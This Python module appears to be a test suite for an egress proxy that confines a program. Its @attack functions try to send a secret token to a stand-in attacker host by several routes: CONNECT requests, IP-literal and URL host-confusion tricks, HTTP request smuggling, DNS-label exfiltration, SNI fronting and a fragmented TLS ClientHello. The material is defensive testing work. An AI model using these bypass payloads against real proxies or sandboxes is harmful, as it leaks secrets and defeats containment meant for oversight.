"""The gate as a way out: a relay, another host behind an allowed name, a name that is the secret."""

from __future__ import annotations

import contextlib
import os
import socket
import ssl
import struct
import time
from typing import TYPE_CHECKING

from common import attack, each, send

if TYPE_CHECKING:
    from common import World


def _proxy() -> tuple[str, int]:
    """Return where the confined program is told the proxy is."""
    url = os.environ.get("HTTPS_PROXY") or os.environ["https_proxy"]
    host, port = url.split("//", 1)[1].rstrip("/").rsplit("@", 1)[-1].rsplit(":", 1)
    return host, int(port)


def _say(*parts: bytes) -> str:
    """Send to the gate, part after part, and return all that comes back."""
    with socket.create_connection(_proxy(), 2) as connection:
        connection.settimeout(1.5)
        said = b""
        for part in parts:
            connection.sendall(part)
            said += each(lambda: connection.recv(4096))[0].encode()
        return said.decode("latin-1")


def _connect(target: str, token: bytes, host: str = "") -> str:
    return _say(f"CONNECT {target} HTTP/1.1\r\nHost: {host or target}\r\n\r\n".encode("latin-1"), token)


@attack
def gate_legit(world: World) -> object:
    """No attack: reach the allowed host through the gate."""
    return _connect(f"{world.allowed}:{world.allowed_port}", world.token)


@attack
def gate_connect_attacker(world: World) -> object:
    """Ask the gate for the attacker's host, in every notation that a URL has."""
    port = world.tcp4
    request = f"GET http://{world.attacker}:{port}/{world.token.decode()} HTTP/1.1\r\nHost: {{}}\r\n\r\n"
    return each(
        lambda: _connect(f"{world.attacker}:{port}", world.token),
        lambda: _connect(f"{world.attacker}.:{port}", world.token),
        lambda: _connect(f"{world.attacker}:{port}", world.token, f"{world.allowed}:{world.allowed_port}"),
        lambda: _say(request.format(world.attacker).encode()),
        lambda: _say(request.format(world.allowed).encode()),
    )


@attack
def gate_ip_literal(world: World) -> object:
    """Ask the gate for addresses in every way they are written."""
    packed = struct.unpack(">I", socket.inet_aton(world.hosts[0]))[0]
    names = (
        *world.hosts,
        "localhost",
        "[::1]",
        "[::ffff:127.0.0.1]",
        str(packed),
        hex(packed),
        "0",
        "127.1",
        "0.0.0.0",
    )
    return each(*(lambda name=name: _connect(f"{name}:{world.tcp4}", world.token) for name in names))


@attack
def gate_host_confusion(world: World) -> object:
    """Write the allowed name so that the gate reads it and the resolver another."""
    good, bad, port = world.allowed, world.attacker, world.tcp4
    targets = (
        f"{good}@{bad}:{port}", f"{bad}#{good}:{port}", f"{bad}/{good}:{port}", f"{bad}%00.{good}:{port}",
        f"{bad}\\{good}:{port}", f"{bad}\x00.{good}:{port}", f"{good}:{world.allowed_port}@{bad}:{port}",
        f"{bad}:{port}?{good}", f"{good}:{world.allowed_port} {bad}:{port}", f"{bad}\t{good}:{port}", f"{good}:{port}",
        f"{good}.{bad}:{port}", f"x.{good}:{port}", f"{bad}:{port}:{world.allowed_port}", f"{good}:+{port}",
    )  # fmt: skip
    said = each(*(lambda target=target: _connect(target, world.token) for target in targets))
    smuggled = f"POST http://{good}:{world.allowed_port}/ HTTP/1.1\r\nHost: {good}\r\n"
    second = f"GET http://{bad}:{port}/{world.token.decode()} HTTP/1.1\r\nHost: {bad}\r\n\r\n".encode()
    return said + each(
        lambda: _say(f"{smuggled}Content-Length: 0\r\n\r\n".encode() + second),
        lambda: _say(
            f"{smuggled}Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n".encode() + second
        ),
        lambda: _say(f"{smuggled}Host: {bad}:{port}\r\nContent-Length: 0\r\n\r\n".encode(), second),
        lambda: _say(f"{smuggled}X: y\nHost: {bad}:{port}\r\n\r\n".encode()),
    )


@attack
def gate_dns_label(world: World) -> object:
    """Have the gate ask a name server for a name that is the secret; it refuses, but only after asking."""
    name = f"{world.token.decode().strip(':').replace(':', '-').replace('_', '-')}.{world.attacker}"
    return each(
        lambda: _connect(f"{name}:443", world.token),
        lambda: _connect(f"{name}.:443", world.token),
        lambda: _say(f"GET http://{name}/ HTTP/1.1\r\nHost: {name}\r\n\r\n".encode()),
        lambda: socket.getaddrinfo(name, 443),
    )


@attack
def gate_sni_front(world: World) -> object:
    """Be connected to the allowed host and ask there, by TLS, for the attacker's site on the same servers."""
    said = []
    for name in (world.attacker, "", f"{world.allowed}.{world.attacker}"):
        said += each(lambda name=name: _hello(world, name.encode()))
    return said + each(lambda: _hello_in_pieces(world))


def _client_hello(world: World, name: str) -> bytes:
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    session = context.wrap_bio(incoming, outgoing, server_hostname=name or None)
    with contextlib.suppress(ssl.SSLWantReadError):
        session.do_handshake()
    return outgoing.read()


def _hello(world: World, name: bytes) -> str:
    """Send a TLS ClientHello that names another host than CONNECT did, with the token behind it."""
    target = f"{world.allowed}:{world.allowed_port}"
    head = f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode()
    return _say(head, _client_hello(world, name.decode()) + world.token)


def _hello_in_pieces(world: World) -> str:
    """The same hello a byte at a time, in case only the first piece is looked at."""
    target = f"{world.allowed}:{world.allowed_port}"
    with socket.create_connection(_proxy(), 2) as connection:
        connection.settimeout(1.5)
        connection.sendall(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
        connection.recv(4096)
        for byte in _client_hello(world, world.attacker):
            connection.sendall(bytes([byte]))
            time.sleep(0.0005)
        connection.sendall(world.token)
        return repr(connection.recv(4096))


@attack
def gate_fake_address(world: World) -> object:
    """Connect to addresses that the transparent mode gives to names, none of which was given."""
    return each(
        *(
            lambda port=port: send(("198.18.9.9", port), world.token, socket.AF_INET)
            for port in (80, 443, world.tcp4)
        )
    )
